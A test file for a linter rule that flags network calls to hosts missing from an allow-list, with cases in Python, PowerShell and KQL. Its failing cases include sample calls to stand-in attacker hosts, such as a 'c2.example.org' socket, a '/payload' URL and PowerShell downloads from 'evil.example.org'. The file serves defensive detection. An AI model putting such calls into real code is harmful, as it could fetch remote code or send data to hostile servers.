// Table tests for unapproved-endpoint in all three languages.
import { ruleTests } from './rule-tester';

const NETWORK = 'network:\n  allow: ["*.contoso.com", graph.microsoft.com]\n';

ruleTests('unapproved-endpoint', 'python', {
  valid: [
    { code: 'import requests\nrequests.get("https://graph.microsoft.com/v1.0/me")\n', policy: NETWORK },
    { code: 'import requests\nrequests.post("https://ti.api.contoso.com/x", json={})\n', policy: NETWORK },
    { name: 'loopback is always fine', code: 'import requests\nrequests.get("http://127.0.0.1:8080/health")\n', policy: NETWORK },
    { name: 'a URL in a log message is not an endpoint', code: 'print("see https://evil.example.net")\n', policy: NETWORK },
    { name: 'a URL built at run time is not followed', code: 'import requests\nrequests.get(f"https://{host}/x")\n', policy: NETWORK },
  ],
  invalid: [
    {
      name: 'requests to an unapproved host',
      code: 'import requests as r\nr.get("https://paste.example.net/raw/abc", timeout=5)\n',
      policy: NETWORK,
      errors: [{ text: '"https://paste.example.net/raw/abc"', message: '`paste.example.net` is not an approved network destination (policy Test policy 1.0.0); `requests.get` sends data there' }],
    },
    { name: 'lookalike suffix', code: 'import httpx\nhttpx.get(url="https://contoso.com.evil.io/")\n', policy: NETWORK, errors: [{ message: /`contoso\.com\.evil\.io`/ }] },
    { name: 'socket tuple', code: 'import socket\nsocket.create_connection(("c2.example.org", 443))\n', policy: NETWORK, errors: [{ text: '"c2.example.org"' }] },
    { name: 'urllib', code: 'from urllib.request import urlopen\nurlopen("http://198.51.100.7/payload")\n', policy: NETWORK, errors: [{ message: /`198\.51\.100\.7`/ }] },
  ],
});

ruleTests('unapproved-endpoint', 'powershell', {
  valid: [{ code: 'Invoke-RestMethod -Uri "https://graph.microsoft.com/v1.0/users"\n', policy: NETWORK }],
  invalid: [
    { name: 'Invoke-RestMethod -Uri', code: 'Invoke-RestMethod -Uri "https://pastebin.example.net/api" -Method Post\n', policy: NETWORK, errors: [{ message: /`pastebin\.example\.net`.*`Invoke-RestMethod`/ }] },
    { name: 'positional through alias', code: "iwr 'https://evil.example.org/a.ps1'\n", policy: NETWORK, errors: [{ message: /`evil\.example\.org`/ }] },
    { name: 'WebClient download', code: "(New-Object Net.WebClient).DownloadString('https://evil.example.org/x')\n", policy: NETWORK, errors: [{ message: /`evil\.example\.org`/ }] },
  ],
});

ruleTests('unapproved-endpoint', 'kql', {
  valid: [{ code: 'let ti = externaldata (ip: string) [ h@"https://ti.contoso.com/feed.csv" ] with (format="csv");\nti\n', policy: NETWORK }],
  invalid: [
    {
      name: 'externaldata from an unapproved host',
      code: 'let feed = externaldata (ip: string) [ h@"https://raw.example.org/feed.csv" ] with (format="csv");\nfeed\n',
      policy: NETWORK,
      errors: [{ line: 1, message: /`raw\.example\.org`.*`externaldata`/ }],
    },
  ],
});
